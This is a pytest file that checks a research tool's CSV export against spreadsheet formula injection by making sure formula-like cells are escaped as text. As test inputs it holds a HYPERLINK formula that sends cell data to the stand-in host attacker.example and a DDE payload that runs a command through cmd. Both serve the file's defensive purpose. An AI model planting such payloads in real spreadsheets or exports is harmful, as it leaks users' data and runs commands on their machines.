"""No table the tool writes runs as a spreadsheet formula (issue 22 item 16: bundle CSV cells starting
with ``=``). A dataset name, a model path or an imported noise field can hold any string."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from concept_depth.export.bundle import make_bundle
from concept_depth.export.csv_text import rows_csv, spreadsheet_safe

ATTACK = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_like_string_becomes_text(start):
    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"


def test_numbers_and_plain_strings_pass_unchanged():
    assert spreadsheet_safe(-0.25) == -0.25 and spreadsheet_safe(-3) == -3 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("cities") == "cities" and spreadsheet_safe("a=b") == "a=b"


def test_no_cell_of_a_bundles_tables_starts_a_formula(make_run):
    run = make_run(noise=ATTACK, dataset="@SUM(1+1)")
    with zipfile.ZipFile(io.BytesIO(make_bundle([run], figures=False))) as zf:
        for name in ("runs.csv", "tidy.csv"):
            cells = _cells(zf.read(name).decode())
            assert not [c for c in cells if c.startswith(("=", "+", "@"))], name
            assert "'" + ATTACK in cells and "'@SUM(1+1)" in cells, name


def test_row_tables_keep_negative_numbers_as_numbers():
    text = rows_csv([{"stage": "=cmd|' /C calc'!A0", "gap": -0.125}], ["stage", "gap"])
    assert _cells(text) == ["stage", "gap", "'=cmd|' /C calc'!A0", "-0.125"]
